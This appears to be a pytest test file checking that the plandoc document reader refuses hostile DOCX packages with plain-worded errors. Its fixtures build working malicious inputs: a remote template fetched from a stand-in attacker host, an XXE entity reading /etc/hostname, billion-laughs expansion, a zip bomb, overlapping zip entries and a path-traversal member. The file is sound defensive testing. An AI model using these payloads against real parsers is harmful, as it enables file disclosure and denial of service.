"""RELIABILITY.md cases 16-26 and 36: hostile DOCX packages end in a typed plandoc error that names
the problem in plain words, before python-docx parses anything."""

from __future__ import annotations

import io
import zipfile

import pytest

from plandoc.errors import ResourceLimitError, UnreadableError, UnsafeInputError
from plandoc.parse import read_document

from .conftest import XML_DECL, plain_docx, rezip

EXT_REL = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
           b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
           b'attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>')
LINK_REL = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'hyperlink" Target="https://example.org/help" TargetMode="External"/></Relationships>')


def _lol() -> bytes:
    ents = b"".join(b'<!ENTITY l%d "%s">' % (i + 1, (b"&l%d;" % i) * 10) for i in range(9))
    return b'<!DOCTYPE w:document [<!ENTITY l0 "lol">' + ents + b"]>"


def _deep(raw: bytes) -> bytes:
    return raw.replace(b"</w:body>", b"<w:sdt>" * 400 + b"</w:sdt>" * 400 + b"</w:body>")


def _bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        src = zipfile.ZipFile(io.BytesIO(plain_docx()))
        for n in src.namelist():
            z.writestr(n, src.read(n))
        z.writestr("word/media/filler.bin", b"\0" * (400 * 1024 * 1024))
    return out.getvalue()


def _overlapping() -> bytes:
    """Two central-directory entries pointing at the same local header (gh-109858 style)."""
    data = bytearray(plain_docx())
    infos = {i.filename: i for i in zipfile.ZipFile(io.BytesIO(bytes(data))).infolist()}
    target = infos["word/document.xml"].header_offset
    pos = data.find(b"PK\x01\x02")
    while pos != -1:  # walk the central directory; repoint styles.xml at document.xml
        name_len = int.from_bytes(data[pos + 28:pos + 30], "little")
        if bytes(data[pos + 46:pos + 46 + name_len]) == b"word/styles.xml":
            data[pos + 42:pos + 46] = target.to_bytes(4, "little")
        pos = data.find(b"PK\x01\x02", pos + 4)
    return bytes(data)


CASES = {
    # case: (file name, bytes builder, error type, words the message must hold)
    16: ("empty.docx", lambda: b"", UnreadableError, "empty"),
    "16b": ("notzip.docx", lambda: b"plain text, not a package" * 10, UnreadableError, "not a PDF or Word"),
    "16c": ("truncated.docx", lambda: plain_docx()[:4000], UnreadableError, "damaged"),
    17: ("no-document.docx", lambda: rezip(plain_docx(), rename={"word/document.xml": "word/other.xml"}),
         UnreadableError, "Word"),
    18: ("renamed.docx", lambda: rezip(plain_docx(), edit={"[Content_Types].xml": lambda r: r.replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")}), UnsafeInputError, "macro"),
    19: ("vba.docx", lambda: rezip(plain_docx(), add={"word/vbaProject.bin": b"\0" * 64}), UnsafeInputError, "macros"),
    20: ("attached-template.docx", lambda: rezip(plain_docx(), add={"word/_rels/settings.xml.rels": EXT_REL}),
         UnsafeInputError, "outside"),
    21: ("xxe.docx", lambda: rezip(plain_docx(), edit={"word/document.xml": lambda r: r.replace(
        XML_DECL, XML_DECL + b'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/hostname">]>', 1)}),
         UnsafeInputError, "DOCTYPE"),
    22: ("laughs.docx", lambda: rezip(plain_docx(), edit={"word/document.xml": lambda r: r.replace(
        XML_DECL, XML_DECL + _lol(), 1)}), UnsafeInputError, "DOCTYPE"),
    23: ("deep.docx", lambda: rezip(plain_docx(), edit={"word/document.xml": _deep}), UnreadableError, "damaged"),
    24: ("bomb.docx", _bomb, ResourceLimitError, "MB when unpacked"),
    25: ("overlap.docx", _overlapping, UnreadableError, "overlapping"),
    26: ("traversal.docx", lambda: rezip(plain_docx(), add={"../../escape.txt": b"x"}), UnreadableError, "outside"),
    36: ("polyglot.pdf", plain_docx, None, None),  # DOCX bytes named .pdf: read by what they are
}


@pytest.mark.parametrize("case", list(CASES), ids=lambda c: f"case-{c}")
def test_hostile_docx(case, write):
    name, build, error, words = CASES[case]
    path = write(name, build())
    if error is None:
        doc = read_document(path, "input-1")
        assert doc.kind == "docx" and doc.sections["goals"].present
        return
    with pytest.raises(error) as info:
        read_document(path, "input-1")
    message = str(info.value)
    assert words in message
    assert message.startswith("input-1:"), "the error names the input as the caller displays it"
    assert "NA meetings" not in message and "attacker.invalid" not in message


def test_ordinary_hyperlinks_are_not_refused(write):
    data = rezip(plain_docx(), add={"word/_rels/footer1.xml.rels": LINK_REL})
    doc = read_document(write("links.docx", data), "input-1")
    assert doc.sections["goals"].present


def test_bomb_is_refused_from_the_central_directory_before_decompressing(write, monkeypatch):
    """Nothing is decompressed: the reader never calls ZipFile.read/open on the big member."""
    path = write("bomb.docx", _bomb())
    opened = []
    real_open = zipfile.ZipFile.open

    def spy(self, name, *a, **kw):
        opened.append(name if isinstance(name, str) else name.filename)
        return real_open(self, name, *a, **kw)

    monkeypatch.setattr(zipfile.ZipFile, "open", spy)
    with pytest.raises(ResourceLimitError):
        read_document(path, "input-1")
    assert "word/media/filler.bin" not in opened
